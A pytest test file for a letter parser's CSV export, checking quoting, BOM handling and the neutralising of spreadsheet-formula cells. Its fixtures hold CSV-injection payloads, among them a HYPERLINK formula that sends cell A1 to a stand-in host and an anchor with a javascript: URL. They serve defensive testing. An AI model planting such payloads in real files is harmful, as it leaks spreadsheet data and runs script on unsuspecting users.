"""CSV export: one row per signatory and member, RFC 4180, UTF-8, optional BOM, and no
cell that a spreadsheet would run as a formula unless asked."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from letterparse import parse, parse_file, to_csv
from letterparse.cli import main
from letterparse.export.csv import COLUMNS, neutralised
from tests.conftest import LETTERS, REFERENCE


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_reference_letter_rows() -> None:
    letter = parse_file(REFERENCE)
    text = to_csv([letter])
    table = rows(text)
    members = sum(len(s.members) for s in letter.signatories)
    assert len(table) == 303 + members == 344
    assert list(table[0]) == list(COLUMNS)
    assert table[4] == {
        "source_path": str(REFERENCE) if letter.source.path else "",
        "number": "5",
        "name": "Action Committee of Basic Education Students (ACBES)",
        "kind": "organization",
        "acronym": "ACBES",
        "affiliation": "",
        "group": "",
        "parent": "",
        "depth": "0",
        "line": "50",
    }
    member = next(row for row in table if row["acronym"] == "BEGSC")
    assert member["parent"] == "General Strike Committee of Basic and Higher Education (GSCBHE)"
    assert (member["depth"], member["number"], member["line"]) == ("1", "", "147")
    burmese = [row["name"] for row in table if "ဝန်ကြီးဌာန" in row["name"]]
    assert "CDM - လျှပ်စစ်နှင့် စွမ်းအင် ဝန်ကြီးဌာန" in burmese


def test_rfc4180_line_ends_and_quoting() -> None:
    letter = parse_file(LETTERS / "batch" / "2023" / "open-letter-secretary-general.txt")
    text = to_csv([letter])
    assert text.count("\r\n") == 6
    assert "\n" not in text.replace("\r\n", "")
    assert ',"Professor of Marine Ecology, University of Penang",Individuals,' in text
    hostile = to_csv([parse_file(LETTERS / "hostile-markup.txt")])
    assert '"Acme & Sons <a href=""javascript:alert(2)"">click</a>"' in hostile


def test_several_letters_in_order_with_their_paths() -> None:
    paths = sorted((LETTERS / "batch").rglob("*.*"))
    table = rows(to_csv([parse_file(path) for path in paths]))
    assert list(dict.fromkeys(row["source_path"] for row in table)) == [str(p) for p in paths]
    assert [row["name"] for row in table if row["depth"] == "1"] == [
        "Camp Health Volunteers",
        "Women's Water Committee",
    ]


def test_bom_only_when_asked() -> None:
    letter = parse("Dear Members,\n\nWe write.\n\nSigned by 1 group.\n\n1. Yangon Group\n")
    assert to_csv([letter], bom=True).startswith("\ufeffsource_path,")
    assert to_csv([letter]).startswith("source_path,")
    assert to_csv([], bom=True) == "\ufeff" + ",".join(COLUMNS) + "\r\n"


HOSTILE = """To the Council

Dear Members,

We write.

Signed by 7 groups.

1. =HYPERLINK("http://x.example/?"&A1,"Click")
2. +44 Friends
3. -5 Degrees Network
4. @SUM(A1:A9)
5. '=Already Quoted
6. Alpha Forum; =1+2
7. Beta Union, Nairobi
"""
"""Names a spreadsheet would run, as anyone can sign a public list."""

WRITTEN = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+44 Friends",
    "-5 Degrees Network",
    "@SUM(A1:A9)",
    "'=Already Quoted",
    "Alpha Forum; =1+2",
    "Beta Union, Nairobi",
]


def test_cells_a_spreadsheet_would_run_get_a_quote_in_front() -> None:
    letter = parse(HOSTILE)
    assert [s.name for s in letter.signatories] == WRITTEN
    text = to_csv([letter])
    assert [row["name"] for row in rows(text)] == [
        "'" + name if name[0] in "=+-@'" else name for name in WRITTEN
    ]
    # a name with a semicolon, the separator of many spreadsheets, is quoted whole
    assert ',"Alpha Forum; =1+2",' in text


def test_raw_cells_are_written_as_they_stand() -> None:
    table = to_csv([parse(HOSTILE)], raw=True)
    assert [row["name"] for row in rows(table)] == WRITTEN


@pytest.mark.parametrize(
    "cell", ["=1+2", "+1", "-5", "@x", "\tx", "\rx", "\nx", "'=x", "''+x", "'t Hooft", "x", ""]
)
def test_taking_one_quote_off_a_neutralised_cell_gives_it_back(cell: str) -> None:
    written = neutralised(cell)
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")
    back = written[1:] if written != cell else written
    assert back == cell


def test_cli_neutralises_unless_csv_raw(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    letter = tmp_path / "hostile.txt"
    letter.write_text(HOSTILE, encoding="utf-8")
    assert main(["parse", str(letter), "--to", "csv"]) == 0
    assert main(["parse", str(letter), "--to", "csv", "--csv-raw", "-j", "2"]) == 0
    safe, raw = capsysbinary.readouterr().out.decode().split("source_path,")[1:]
    assert ",1,\"'=HYPERLINK(" in safe
    assert ',1,"=HYPERLINK(' in raw
    assert main(["parse", str(letter), "--csv-raw"]) == 2
    assert "--csv-raw is for --to csv" in capsysbinary.readouterr().err.decode()
